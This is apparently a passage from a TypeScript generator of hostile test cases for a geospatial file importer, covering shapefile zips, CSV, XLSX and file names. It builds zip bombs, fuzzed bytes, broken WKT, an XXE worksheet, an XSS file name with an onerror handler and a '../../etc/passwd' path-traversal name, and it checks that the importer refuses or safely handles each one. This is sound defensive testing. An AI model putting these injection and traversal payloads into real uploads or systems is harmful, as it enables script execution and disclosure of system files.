  ]);
  // Cut within the central directory, the entries are whole and import.
  truncations(shpZip, 10).forEach((b, i) => either(`shapefile/zip-truncated-${i}`, 'cut.zip', b));
  add({
    id: 'shapefile/zip-bomb',
    file: 'bomb.zip',
    bytes: zipSync(
      { ...Object.fromEntries(names.map((nm) => [nm, parts[nm]!])), 'pad.bin': zeros },
      { level: 9 },
    ),
    // The bomb is an entry no reader wants: it is never inflated, and the shapes import.
    expect: 'ok',
    blocks: 2,
    heavy: true,
  });
  for (let i = 0; i < 30; i++)
    either(`shapefile/fuzz-shp-${i}`, 'fuzz.zip', replaced('.shp', flipped(shp, 1 + (i % 4), 4000 + i)));
  for (let i = 0; i < 15; i++)
    either(`shapefile/fuzz-dbf-${i}`, 'fuzz.zip', replaced('.dbf', flipped(dbf, 1 + (i % 4), 5000 + i)));
  for (let i = 0; i < 10; i++)
    either(`shapefile/fuzz-zip-${i}`, 'fuzz.zip', flipped(shpZip, 1 + (i % 3), 6000 + i));

  // ---------- CSV ----------
  const c = strToU8(VALID_CSV);
  ok('csv/valid', 'valid.csv', c);
  truncations(c, 12).forEach((b, i) => either(`csv/truncated-${i}`, 'cut.csv', b));
  for (const [name, text] of [
    ['empty', ''],
    ['header-only', 'name,wkt\n'],
    ['no-geometry-columns', 'name,area\nA,1.5\n'],
    ['only-newlines', '\n\n\n'],
    ['binary', '\u0000\u0001\u0002\u0003'],
  ] as const)
    refused(`csv/${name}`, `${name}.csv`, strToU8(text), ['csv-no-geometry', 'empty', 'csv-geometry']);
  const brokenWkt = [
    'POLYGON((116.3 39.9, 116.4 39.9, 116.4))',
    'POLYGON((116.3 39.9, 116.4 39.9, 116.4 40.0, 116.3 39.9)',
    'POLYGON 116.3 39.9',
    'POLYGON(())',
    'POLYGON EMPTY',
    'POLYGON((a b, c d, e f, a b))',
    'POLYGON((NaN NaN, NaN NaN, NaN NaN, NaN NaN))',
    'POLYGON((Infinity 1, 2 3, 4 5, Infinity 1))',
    'POLYGON((116.3,39.9,116.4,39.9))',
    'CIRCLE(116.3 39.9 100)',
    'GEOMETRYCOLLECTION(POINT(116.3 39.9))',
    'POLYGON(((116.3 39.9, 116.4 39.9, 116.4 40, 116.3 39.9)))',
    'POLYGON((116.3 39.9, 116.4 39.9, 116.4 40, 116.3 39.9)) trailing',
    ')(',
    'POLYGON' + '('.repeat(10_000) + ')'.repeat(10_000),
    'SRID=3857;POLYGON((12950000 4850000, 12960000 4850000, 12960000 4860000, 12950000 4850000))',
    '',
    'null',
  ];
  brokenWkt.forEach((w, i) =>
    refused(`csv/broken-wkt-${i}`, 'x.csv', strToU8(`name,wkt\nA,"${w}"\n`), [
      'csv-geometry',
      'geometry',
      'misplaced',
      'not-polygon',
      'empty',
    ]),
  );
  for (const [name, w] of [
    ['point', 'POINT(116.33 39.98)'],
    ['linestring', 'LINESTRING(116.3 39.9, 116.4 40)'],
    ['multipoint', 'MULTIPOINT((116.3 39.9), (116.4 40))'],
  ] as const)
    refused(`csv/wkt-${name}`, 'x.csv', strToU8(`name,wkt\nA,"${w}"\n`), ['csv-geometry', 'not-polygon']);
  ok('csv/wkt-lowercase', 'x.csv', strToU8(VALID_CSV.replace('POLYGON', 'polygon')));
  ok(
    'csv/wkt-multipolygon',
    'x.csv',
    strToU8(`name,wkt\nA,"MULTIPOLYGON(((${RING.map((p) => p.join(' ')).join(', ')})))"\n`),
  );
  ok(
    'csv/wkt-z',
    'x.csv',
    strToU8(`name,wkt\nA,"POLYGON Z((${RING.map((p) => `${p.join(' ')} 40`).join(', ')}))"\n`),
  );
  ok('csv/crlf', 'x.csv', strToU8(VALID_CSV.replace(/\n/g, '\r\n')));
  ok('csv/utf8-bom', 'x.csv', new Uint8Array([0xef, 0xbb, 0xbf, ...c]));
  ok('csv/utf16le-bom', 'x.csv', utf16(VALID_CSV, false));
  ok('csv/utf16be-bom', 'x.csv', utf16(VALID_CSV, true));
  ok('csv/gbk-name', 'x.csv', withGbkName('name,wkt\n', `,"${WKT}"\n`));
  ok('csv/semicolon', 'x.csv', strToU8(`name;wkt\n测试区块;"${WKT}"\n`));
  ok('csv/tab', 'x.csv', strToU8(`name\twkt\n测试区块\t"${WKT}"\n`));
  ok('csv/blank-lines', 'x.csv', strToU8(`\n\nname,wkt\n\n测试区块,"${WKT}"\n\n`));
  hostileNames
    .slice(0, 8)
    .forEach((name, i) =>
      ok(`csv/hostile-name-${i}`, 'x.csv', strToU8(`name,wkt\n"${name.replace(/"/g, '""')}","${WKT}"\n`)),
    );
  either('csv/unbalanced-quote', 'x.csv', strToU8(`name,wkt\n"A,"${WKT}\n`));
  // Boundary points (界址点): lon/lat columns grouped by id.
  const points = (rows: (string | number)[][], header = '编号,经度,纬度') =>
    strToU8(`${header}\n${rows.map((r) => r.join(',')).join('\n')}\n`);
  const pts = RING.map(([x, y]) => ['A', x!, y!]);
  ok('csv/points', 'x.csv', points(pts));
  ok('csv/points-english', 'x.csv', points(pts, 'id,lon,lat'));
  refused('csv/points-swapped', 'x.csv', points(RING.map(([x, y]) => ['A', y!, x!])), ['misplaced']);
  refused('csv/points-text', 'x.csv', points(RING.map(() => ['A', '东经116度', '北纬40度'])), [
    'csv-geometry',
    'geometry',
  ]);
  refused('csv/points-empty-cells', 'x.csv', points(RING.map(() => ['A', '', ''])), [
    'csv-geometry',
    'geometry',
    'empty',
  ]);
  refused('csv/points-two', 'x.csv', points(pts.slice(0, 2)), ['csv-geometry', 'geometry']);
  refused('csv/points-gk-metres', 'x.csv', points(gk39.map(([x, y]) => ['A', x!, y!])), [
    'misplaced',
    'geometry',
  ]);
  // Boundary points without an id column are one block.
  ok(
    'csv/points-no-id',
    'x.csv',
    points(
      RING.map(([x, y]) => [x!, y!]),
      '经度,纬度',
    ),
  );
  for (let i = 0; i < 20; i++) either(`csv/fuzz-${i}`, 'fuzz.csv', flipped(c, 1 + (i % 4), 7000 + i));
  const bigCsv = `name,wkt\n${Array.from({ length: 20_000 }, (_, i) => {
    const x = 116.2 + (i % 150) * 0.0015;
    const y = 39.8 + Math.floor(i / 150) * 0.0012;
    return `b${i},"POLYGON((${x} ${y}, ${x + 0.001} ${y}, ${x + 0.001} ${y + 0.001}, ${x} ${y + 0.001}, ${x} ${y}))"`;
  }).join('\n')}\n`;
  add({
    id: 'csv/20000-rows',
    file: 'big.csv',
    bytes: strToU8(bigCsv),
    expect: 'ok',
    blocks: 20_000,
    heavy: true,
  });

  // ---------- XLSX ----------
  const x = fixture('xlsx/wkt-blocks.xlsx');
  const xParts = unzipSync(x);
  ok('xlsx/valid', 'valid.xlsx', x, null);
  ok('xlsx/points', 'points.xlsx', fixture('xlsx/points.xlsx'), null);
  refused('xlsx/not-a-zip', 'x.xlsx', c, ['unreadable']);
  refused('xlsx/empty-file', 'x.xlsx', new Uint8Array(0), ['unreadable']);
  refused('xlsx/empty-zip', 'x.xlsx', zipSync({}), ['unreadable']);
  refused('xlsx/kmz-renamed', 'x.xlsx', kmz, ['unreadable']);
  const xWithout = (pred: (n: string) => boolean) => {
    const z: Zippable = {};
    for (const nm of Object.keys(xParts)) if (!pred(nm)) z[nm] = xParts[nm]!;
    return zipSync(z);
  };
  either(
    'xlsx/no-workbook',
    'x.xlsx',
    xWithout((nm) => nm.endsWith('workbook.xml')),
  );
  either(
    'xlsx/no-sheets',
    'x.xlsx',
    xWithout((nm) => nm.includes('worksheets/')),
  );
  either(
    'xlsx/no-shared-strings',
    'x.xlsx',
    xWithout((nm) => nm.includes('sharedStrings')),
  );
  either(
    'xlsx/no-content-types',
    'x.xlsx',
    xWithout((nm) => nm.includes('Content_Types')),
  );
  const xReplace = (pred: (n: string) => boolean, bytes: Uint8Array) => {
    const z: Zippable = {};
    for (const nm of Object.keys(xParts)) z[nm] = pred(nm) ? bytes : xParts[nm]!;
    return zipSync(z);
  };
  either(
    'xlsx/sheet-garbage',
    'x.xlsx',
    xReplace((nm) => nm.includes('worksheets/'), strToU8('garbage')),
  );
  refused(
    'xlsx/sheet-xxe',
    'x.xlsx',
    xReplace((nm) => nm.includes('worksheets/'), xxe),
    ['unsafe-xml', 'unreadable'],
  );
  either(
    'xlsx/strings-garbage',
    'x.xlsx',
    xReplace((nm) => nm.includes('sharedStrings'), strToU8('<sst><si><t>unclosed')),
  );
  truncations(x, 10).forEach((b, i) => refused(`xlsx/truncated-${i}`, 'cut.xlsx', b, ['unreadable']));
  add({
    id: 'xlsx/zip-bomb',
    file: 'bomb.xlsx',
    bytes: zipSync({ ...xParts, 'xl/pad.bin': zeros }, { level: 9 }),
    expect: 'refused',
    codes: ['too-large'],
    heavy: true,
  });
  for (let i = 0; i < 15; i++) either(`xlsx/fuzz-${i}`, 'fuzz.xlsx', flipped(x, 1 + (i % 3), 8000 + i));

  // ---------- Names and kinds ----------
  for (const file of [
    'blocks.txt',
    'blocks',
    'blocks.shp',
    'blocks.dbf',
    'blocks.gpkg',
    'blocks.geojson.exe',
    'blocks.PDF',
    '.geojson.',
    'a.tar.gz',
    'blocks.dwg',
  ])
    refused(`name/${file}`, file, g, ['unsupported-format']);
  ok('name/upper-case-extension', 'BLOCKS.GEOJSON', g);
  ok('name/chinese-name', '候选区块（第二批）.geojson', g);
  ok('name/json-extension', 'blocks.json', g);
  ok('name/hostile-file-name', '<img src=x onerror=window.__pwned=1>.geojson', g);
  ok('name/path-in-name', '../../etc/passwd.geojson', g);

  const ids = new Set<string>();
  for (const c2 of cases) {
    if (ids.has(c2.id)) throw new Error(`duplicate hostile case id ${c2.id}`);
    ids.add(c2.id);
  }
  return cases;
}
